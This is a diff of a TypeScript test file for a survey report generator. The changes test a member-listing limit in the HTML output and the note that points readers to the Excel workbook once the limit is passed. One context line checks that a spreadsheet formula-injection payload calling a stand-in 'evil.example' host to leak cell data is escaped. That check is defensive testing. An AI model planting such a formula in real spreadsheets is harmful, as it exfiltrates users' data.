@@ -5,7 +5,7 @@ import ExcelJS from "exceljs";
 import type { Browser } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { createHandlebarsViews } from "../../../functions/adapters/handlebars-views.ts";
-import { renderInputsHtml } from "../../../functions/core/report/inputs-html.ts";
+import { LISTING_LIMIT, renderInputsHtml } from "../../../functions/core/report/inputs-html.ts";
 import { buildInputsReport } from "../../../functions/core/report/inputs-report.ts";
 import { renderInputsXlsx } from "../../../functions/core/report/inputs-xlsx.ts";
 import { launchChromium } from "../../support/chromium.ts";
@@ -159,6 +159,26 @@ describe("the Inputs workbook", () => {
   });
 });
 
+/** `count` members who all answered, each with an expected achievement of their own, as English HTML. */
+const large = (count: number) => {
+  const many = Array.from({ length: count }, (_, i) => member(`M${String(i).padStart(4, "0")}`));
+  const report = buildInputsReport({
+    campaign: campaign({ invited: many.map((m) => m.code) }),
+    questionnaire: q,
+    members: many,
+    submissions: many.map((m) =>
+      submission(m.code, { scores: { alpha: 5 }, achievements: `From ${m.code}` }),
+    ),
+    lang: "en",
+    generatedAt: new Date("2026-03-01T15:30:00Z"),
+    t: (key) => views.translate("en", key),
+  });
+  const text = new TextDecoder().decode(
+    renderInputsHtml(report, (key) => views.translate("en", key), views.render),
+  );
+  return { text, codes: many.map((m) => m.code) };
+};
+
 describe("the Inputs HTML", () => {
   const { report, t } = compile("es");
   const html = new TextDecoder().decode(renderInputsHtml(report, t, views.render));
@@ -188,28 +208,31 @@ describe("the Inputs HTML", () => {
     expect(html).toContain("&#x3D;HYPERLINK(&quot;http://evil.example/?leak&#x3D;&quot;&amp;A1");
   });
 
-  it("ends with every answer of every member, however many there are", () => {
+  it("ends with every answer of every member, up to the listing limit, in order", () => {
     for (const code of ["ARG", "BRA", "CHL", "COSATE", "CEATAL"])
       expect(html).toContain(`id="member-${code}"`);
-    expect(html).not.toContain("consulta:members");
-    // More members than one batch of the appendix: each one appears once, in order.
-    const many = Array.from({ length: 1201 }, (_, i) => member(`M${String(i).padStart(4, "0")}`));
-    const big = buildInputsReport({
-      campaign: campaign({ invited: many.map((m) => m.code) }),
-      questionnaire: q,
-      members: many,
-      submissions: many.map((m) => submission(m.code, { achievements: `From ${m.code}` })),
-      lang: "en",
-      generatedAt: new Date("2026-03-01T15:30:00Z"),
-      t: (key) => views.translate("en", key),
-    });
-    const text = new TextDecoder().decode(
-      renderInputsHtml(big, (key) => views.translate("en", key), views.render),
-    );
+    expect(html).not.toContain("consulta:");
+    // As many members as the limit, several batches of the appendix: each one appears once, in order.
+    const { text, codes } = large(LISTING_LIMIT);
     const ids = [...text.matchAll(/<article class="member" id="member-(M\d+)"/g)].map((m) => m[1]);
-    expect(ids).toEqual(many.map((m) => m.code));
+    expect(ids).toEqual(codes);
+    expect(text).toContain(`From ${codes.at(-1)}`);
+    expect(text).not.toContain("With 100 members who answered");
   });
 
+  it("beyond the limit keeps every figure and who answered, and says where each listing is", () => {
+    const { text, codes } = large(LISTING_LIMIT + 1);
+    expect(text).not.toContain('<article class="member"');
+    expect(text).not.toContain("From M0000");
+    expect(text).not.toContain("consulta:");
+    const note = (sheet: string) =>
+      `With ${LISTING_LIMIT + 1} members who answered (more than ${LISTING_LIMIT}), this document does not list their answers one by one: they are in the sheet “${sheet}” of the Excel workbook, and in the CSV file.`;
+    for (const sheet of ["All answers", "Expected achievements", "Topics by subregion and member"])
+      expect(text).toContain(note(sheet));
+    // Who answered stays complete, and the figures are all there.
+    for (const code of codes) expect(text).toContain(`<td>Member ${code}</td>`);
+    expect(text).toContain(`${LISTING_LIMIT + 1} answered`);
+  });
   it("has a bilingual cover saying when it was updated, for people", () => {
     expect(html).toContain("Insumos para la Reunión de Planeación");
     expect(html).toContain("Inputs for the Planning Meeting");
